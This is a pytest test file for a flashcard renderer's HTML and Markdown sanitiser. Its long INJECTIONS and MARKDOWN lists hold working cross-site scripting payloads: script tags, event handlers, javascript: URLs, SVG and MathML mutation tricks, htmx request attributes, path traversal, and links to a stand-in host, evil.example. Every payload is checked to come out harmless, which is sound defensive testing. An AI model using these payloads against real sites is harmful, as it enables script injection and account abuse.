import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cards import render
from tests.cards.markup import MEDIA, assert_safe

INJECTIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    '<img src="/logout">',
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/x 2x">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="/settings/delete">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="https://x.example" target="_blank" rel="opener" ping="https://evil.example">x</a>',
    '<a id="current_user" name="current_user">x</a>',
    '<p id="review">x</p>',
    '<p class="button danger">x</p>',
    '<span class="visually-hidden">x</span>',
    '<div class="highlight modal">x</div>',
    '<p style="position:fixed;inset:0">x</p>',
    '<div hx-get="/settings/delete" hx-trigger="load">x</div>',
    '<div hx-on:click="alert(1)">x</div>',
    '<div hx-on--load="alert(1)">x</div>',
    '<div data-hx-post="/settings/delete" data-hx-trigger="load">x</div>',
    '<div HX-DELETE="/decks/1" hx-vals="js:{a:alert(1)}">x</div>',
    '<p data-anything="1" aria-label="x" role="button" tabindex="0">x</p>',
    '<p contenteditable autofocus onfocus="alert(1)">x</p>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x#a"></svg>',
    "<svg><foreignObject><iframe srcdoc='x'></foreignObject></svg>",
    '<svg><animate onbegin="alert(1)" attributeName="x"></svg>',
    "<style>@import 'https://evil.example'</style>",
    "<style><img src=x onerror=alert(1)></style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="/login"><input name="password"><button>Log in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="x" onerror="alert(1)">',
    "<textarea autofocus onfocus=alert(1)>",
    "<select><option>x</select>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,x"></object>',
    '<embed src="javascript:alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    '<math><mi href="javascript:alert(1)" xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><maction actiontype="statusline#https://evil.example">x</maction></math>',
    '<math><mi style="position:fixed" id="x" class="button">x</mi></math>',
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><html><head></head><body onload=alert(1)>",
    "</div></article></main><script>alert(1)</script>",
    '<p title="\'><img src=x onerror=alert(1)>">x</p>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script\x00>alert(1)</script>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](/settings/delete)",
    "[x](//evil.example)",
    "[x](#review)",
    '[x](https://x.example "&quot; onmouseover=alert(1) x=&quot;")',
    '[x](https://x.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://x.example/?<script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](/logout)",
    "![x](media/../../logout)",
    "![x](media/..%2f..%2flogout)",
    "![x](media//evil.example/x.png)",
    '![" onerror="alert(1)](media/a.png)',
    '![x](media/a.png" onerror="alert(1))',
    '![x](media/a.png "x\\" onerror=\\"alert(1)")',
    "```<script>\nalert(1)\n```",
    '```python" onclick="alert(1)\nx\n```',
    "```text output\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed}{x}$",
    "$\\class{button}{x}$",
    "$\\cssId{review}{x}$",
    "$\\html{<script>}$",
    '$\\color{red" onclick="alert(1)}{x}$',
    "$$\n</math><script>alert(1)</script>\n$$",
    '$$ a $$ (id" onclick="alert(1))',
    "|a|\n|:-:|\n|<script>alert(1)</script>|",
    "{{c1::<script>alert(1)</script>::<img src=x onerror=alert(1)>}}",
    "{{c1::a::</span><script>alert(1)</script>}}",
    '[x](https://x.example "{{c1::a::\\"><script>alert(1)</script>}}")',
    '![{{c1::a::" onerror="alert(1)}}](media/a.png)',
    "**{{c1::a** <b>b</b> `c}}`",
    "\U00100000</p><script>\U00100001\U00100002\U0010ffff",
    "&#x100000;a&#x100001;&#x100002;&#x10fffe;",
]


@pytest.mark.parametrize("attack", INJECTIONS + MARKDOWN)
def test_an_attack_comes_out_as_text(attack: str) -> None:
    assert_safe(render.text(attack, MEDIA))
    for variant in ("c1", "c2"):
        for side in render.sides("cloze", None, None, f"{attack} {{{{c1::x}}}}", variant, MEDIA):
            assert_safe(side)


@pytest.mark.parametrize("attack", INJECTIONS)
def test_the_sanitiser_alone_stops_an_attack(attack: str) -> None:
    assert_safe(render.clean(attack, MEDIA))


@pytest.mark.parametrize("source", ["/logout", MEDIA + "../../logout", "https://x.example/a.png"])
def test_the_sanitiser_alone_stops_a_picture_from_elsewhere(source: str) -> None:
    assert render.clean(f'<img src="{source}">', MEDIA) == '<img loading="lazy">'


def test_html_is_shown_as_it_was_written() -> None:
    assert render.text("<em>a</em>") == "<p>&lt;em&gt;a&lt;/em&gt;</p>\n"


@given(
    st.sampled_from(["p", "a", "img", "div", "span", "td", "math", "mi", "mtext", "pre"]),
    st.sampled_from(["hx-", "data-hx-", "HX-", "data-", "on"]),
    st.sampled_from(["get", "post", "delete", "on:load", "on::load", "trigger", "vals", "boost"]),
    st.sampled_from(["/settings/delete", "load", "js:{a:alert(1)}", "true"]),
)
def test_no_form_of_htmx_attribute_is_kept(tag: str, prefix: str, name: str, value: str) -> None:
    attack = f'<{tag} {prefix}{name}="{value}">x</{tag}>'
    assert_safe(render.text(attack, MEDIA))
    assert_safe(render.clean(attack, MEDIA))


@given(st.text(), st.sampled_from(["", MEDIA]))
@example("\ud800", "")
@example("[x](http://[)", "")
def test_any_text_is_rendered_safely(text: str, media: str) -> None:
    assert_safe(render.text(text, media))


@given(st.lists(st.sampled_from(INJECTIONS + MARKDOWN + ["{{c1::", "}}", "\n", "`", "$", "*"])))
def test_any_mixture_of_attacks_is_rendered_safely(parts: list[str]) -> None:
    for side in render.sides("cloze", None, None, "".join(parts), "c1", MEDIA):
        assert_safe(side)
